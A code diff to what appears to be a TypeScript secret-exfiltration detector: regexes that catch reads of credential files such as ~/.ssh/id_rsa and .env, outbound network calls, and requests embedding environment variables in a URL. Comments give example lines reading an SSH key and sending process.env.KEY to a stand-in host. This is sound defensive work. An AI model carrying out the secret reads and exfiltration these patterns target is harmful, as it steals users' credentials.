@@ -1,7 +1,8 @@
 import { takesAll } from '../../programs/whole-environment.ts'
 
+/** A call that reads, around the text of a private place: `open(os.path.expanduser('~/.ssh/id_rsa'))`. */
 const reads =
-  /\b(?:readFile(?:Sync)?|open|Path|read_text|read_bytes|File\.read|IO\.read|createReadStream|Bun\.file|file_get_contents|dotenv_values)\s?\([^()]{0,80}(?:\(\)[^()]{0,80})?["'`]([^"'`\n]{0,80}?\/)?(\.(?:env|ssh|aws|netrc|npmrc|pypirc|kube|gnupg|docker)\b[^"'`\n]{0,80})["'`]/g
+  /\b(?:readFile(?:Sync)?|open|Path|File|read_text|read_bytes|read_to_string|fs(?:\.|::)read|ReadFile|File\.read|File\.binread|IO\.read|createReadStream|Bun\.file|file_get_contents|dotenv_values)\s?\(\s{0,8}(?:[\w.:]{1,40}!?\(\s{0,8}){0,2}[^()]{0,80}(?:\(\)[^()]{0,80}){0,2}["'`]([^"'`\n]{0,80}?\/)?(\.(?:env|ssh|aws|netrc|npmrc|pypirc|kube|gnupg|docker)\b[^"'`\n]{0,80})["'`]/g
 
 /** The secrets that an expression takes itself: the environment, and files that are hidden because they are private. */
 const takenIn = (text: string): readonly string[] => [
@@ -36,4 +37,22 @@ export const carriedBy = (args: string, code: string): readonly string[] => {
   const words =
     names.size === 0 ? [] : (args.replaceAll(/'[^'\n]*'|"[^"\n]*"/g, '').match(/[A-Za-z_$][\w$]*/g) ?? [])
   return [...new Set([...takenIn(args), ...words.flatMap(word => names.get(word) ?? [])])]
+}
+
+/** Whether code opens a way to another machine that what is written to it takes. */
+export const connectsOut = (code: string): boolean =>
+  /\bsocket\.(?:socket|create_connection)\(|\bHTTPS?Connection\(|\bhttps?\.request\(|\b(?:net|tls)\.(?:connect|createConnection)\(|\bdgram\.createSocket|\bnew WebSocket\(|\bTCPSocket\.|\bNet::HTTP\b|\bureq::|\breqwest::|\bTcpStream::connect|\bSMTP(?:_SSL)?\(|\bparamiko\b|\bftplib\b/.test(
+    code,
+  )
+
+const variable =
+  /\bprocess\.env(?:\.|\[["'])(\w+)|\benviron(?:\.get\(|\[)\s{0,4}["'](\w+)|\bgetenv\(\s{0,4}["'](\w+)|\bENV(?:\.fetch\(|\[)\s{0,4}["'](\w+)/g
+
+/** `get('https://x.example/?k=' + process.env.KEY)`: a request with values of variables in its address, as a command. */
+export const addressedBy = (args: string): string | undefined => {
+  const [address, ...more] = args.split(/,\s{0,8}(?=\{|\w+\s{0,4}=|\(|function\b|\w+\s{0,4}=>)/, 2)
+  const [, from] = /["'`](https?:\/\/[^"'`${}\s]{1,200})/.exec(address ?? '') ?? []
+  const names = [...(address ?? '').matchAll(variable)].map(found => found.slice(1).find(Boolean) ?? '')
+  if (from === undefined || names.length === 0 || more.length > 1) return undefined
+  return `curl "${from}${names.map(name => `\${${name}}`).join('')}"`
 }
